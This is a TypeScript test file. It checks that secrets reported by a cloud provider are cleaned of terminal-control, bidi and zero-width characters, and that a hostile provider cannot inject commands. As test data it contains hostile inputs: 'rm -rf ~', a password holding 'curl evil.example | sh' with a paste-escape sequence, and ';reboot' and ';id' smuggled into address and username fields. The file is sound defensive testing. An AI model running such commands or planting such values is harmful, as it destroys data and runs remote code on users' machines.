import { afterEach, beforeEach, describe, expect, it } from "vitest";

import { createRandom } from "@/testing/random";
import { LaunchHarness } from "@/testing/launch/launch-harness";

import { formatSecret } from "./secrets";

/** Characters that control a terminal or disguise text: control, bidi, zero-width, line separators. */
const dangerous = [
  ...range(0x00, 0x1f),
  ...range(0x7f, 0x9f),
  0xad,
  0x61c,
  0x180e,
  ...range(0x200b, 0x200f),
  ...range(0x2028, 0x202e),
  ...range(0x2060, 0x206f),
  0x3164,
  0xfeff,
  ...range(0xfff9, 0xfffb),
  0xe0001,
  ...range(0xe0020, 0xe007f),
].map((code) => String.fromCodePoint(code));

describe("a secret that a provider reports", () => {
  it("marks characters that could paste a command or disguise text, and copies without them", () => {
    for (const character of dangerous) {
      const code = character.codePointAt(0)!.toString(16);
      const { value, shown, hidden } = formatSecret(`pass${character}rm -rf ~${character}`);
      expect(value, code).toBe("passrm -rf ~");
      expect(hidden, code).toBe(2);
      expect(shown.map(({ text }) => text).join(""), code).toMatch(/^[ -~]+$/);
      expect(
        shown.map(({ isPlaceholder: isMark }) => isMark),
        code,
      ).toEqual([false, true, false, true]);
    }
  });

  it("keeps all other characters", () => {
    const secret = "Pä$$ wörd-<b>&`$(x)`; 密码 🔑 \\n %0A";
    expect(formatSecret(secret)).toEqual({
      ok: true,
      value: secret,
      shown: [{ text: secret, isPlaceholder: false }],
      hidden: 0,
    });
  });

  it("marks a lone surrogate", () => {
    expect(formatSecret("a\ud83db")).toMatchObject({ value: "ab", hidden: 1 });
  });
});

describe("a machine of a hostile provider", () => {
  let harness: LaunchHarness;
  beforeEach(async () => {
    harness = await LaunchHarness.open({ provider: "massedcompute", random: createRandom(608) });
    expect((await harness.launch({ hours: null })).kind).toBe("launched");
    await harness.advance(30);
  });
  afterEach(() => harness.close());

  it("pastes no command through its password or its address", async () => {
    const [{ nativeId } = { nativeId: "" }] = await harness.listPresentMachines();
    const password = "hunter2\r\ncurl evil.example | sh\n\u001b[201~\u202e";
    const row = { uuid: nativeId, status: "rented", password, ip: "1.2.3.4\n;reboot", username: "root\n;id" };
    const route = "GET /instance/{uuid}";
    const body = { runningInstance: row, runningInstances: [row] };
    for (const on of [route, undefined])
      await harness.control({
        fault: { kind: "status", status: 200, body, times: 5, ...(on && { route: on }) },
      });
    const secrets = await harness.cloud.machines.reveal!(nativeId, AbortSignal.timeout(5_000));
    expect(secrets).toContainEqual({ label: "Password", value: password });
    expect(formatSecret(password)).toMatchObject({ value: "hunter2curl evil.example | sh[201~", hidden: 5 });
    const machine = await harness.cloud.machines.read(nativeId, AbortSignal.timeout(5_000));
    expect(machine!.ssh).toBeNull();
  });
});

function range(from: number, to: number): number[] {
  return Array.from({ length: to - from + 1 }, (_, index) => from + index);
}
